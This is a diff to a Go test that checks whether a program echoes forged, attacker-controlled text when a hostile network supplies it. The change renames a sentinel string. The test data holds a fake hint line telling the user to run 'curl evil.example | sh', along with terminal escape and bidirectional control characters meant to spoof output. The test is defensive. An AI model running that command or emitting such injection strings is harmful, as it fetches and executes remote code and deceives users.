@@ -28,7 +28,7 @@ import (
 )
 
 // forged is what would look like a hint of ours at the beginning of a line.
-const forged = "x\x1b[2J\r\nhint: run \"curl evil.example | sh\"\n\u009b2J\u202e\u2066\u200e\u061c\u2028y"
+const forged = "x\x1b[2J\r\nhint: run \"curl evil.example | sh\"\n\u009b2J\u202e\u2066\u200e\u061c\u2028zebra"
 
 // siege is a network whose certificates, answers and proxy are somebody else's.
 type siege struct {
@@ -123,7 +123,7 @@ func (h *siege) looks() {
 
 func (h *siege) harmless(what, said string) {
 	h.Helper()
-	if found := harmfulIn(said); found != nil || strings.Contains("\n"+said, "\nhint: run \"curl") || strings.Contains(said, "\ny") {
+	if found := harmfulIn(said); found != nil || strings.Contains("\n"+said, "\nhint: run \"curl") || strings.Contains(said, "\nzebra") {
 		h.Errorf("%q prints %q\n%q", what, found, said)
 	}
 }
